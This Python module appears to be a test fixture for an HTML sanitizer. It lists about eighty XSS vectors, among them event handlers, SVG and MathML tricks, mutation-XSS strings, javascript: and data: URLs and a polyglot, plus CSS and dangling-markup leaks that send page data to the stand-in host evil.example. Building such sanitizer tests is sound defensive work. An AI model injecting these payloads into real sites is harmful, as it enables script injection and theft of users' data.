"""Hostile text, a vector of our own for each class that DOMPurify's and OWASP's collections know."""

VECTORS = (
    # scripts and handlers, plain and disguised
    "<script>alert(1)</script>",
    "<ScRiPt\t>alert(1)</sCrIpT >",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img src=x onerror\n=\nalert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<div style='animation-name:x' onanimationstart=alert(1)>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>",
    # out of an attribute, out of a comment
    "' autofocus onfocus='alert(1)",
    "\"><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    # SVG and MathML
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) onbegin=alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    # what changes its meaning when it is parsed again (mXSS)
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<template><s><template><s><img src=x onerror=alert(1)></template>",
    # addresses that run
    "<a href='javascript:alert(1)'>link</a>",
    "<a href='jav&#x09;ascript:alert(1)'>link</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>link</a>",
    "<a href='\x01javascript:alert(1)'>link</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>link</a>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<form><button formaction=javascript:alert(1)>press</button></form>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=image>",
    # what leaves, frames or takes over the page without a script
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv='Content-Security-Policy' content=''>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<img srcset='https://evil.example/1 1x'>",
    "<picture><source srcset=https://evil.example/1><img></picture>",
    "<img src='https://evil.example/?",  # dangling: what follows becomes part of the address
    "<a href=https://evil.example/ target='",
    "<form action=https://evil.example/><input name=address>",
    "<iframe src=https://evil.example/></iframe>",
    "<img name=getElementById src=https://evil.example/>",
    # style
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1));behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    # templates, encodings, polyglots
    "{{ 7 * 7 }}{% include 'x' %}${7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "<p x-data x-init=alert(1) @click=alert(1) hx-get=https://evil.example/ data-x=1>x</p>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<\u0000script>alert(1)</script>",
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
     "\\x3csVg/<sVg/oNloAd=alert(1)//>"),
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "https://example.org/\" onmouseover=\"alert(1)",
)  # fmt: skip
_BEGINNINGS = (
    "' ", "{{", "&", "%3C", "\\", "+AD", "\uff1c", "\u202e", "<!", "<noscript", "<img src=x oN", "<img src='h", "<a href=https",
)  # fmt: skip
INERT = tuple(each for each in VECTORS if each.startswith(_BEGINNINGS))
"""Those that make no element by themselves: they need what stands around them, or another reading first."""
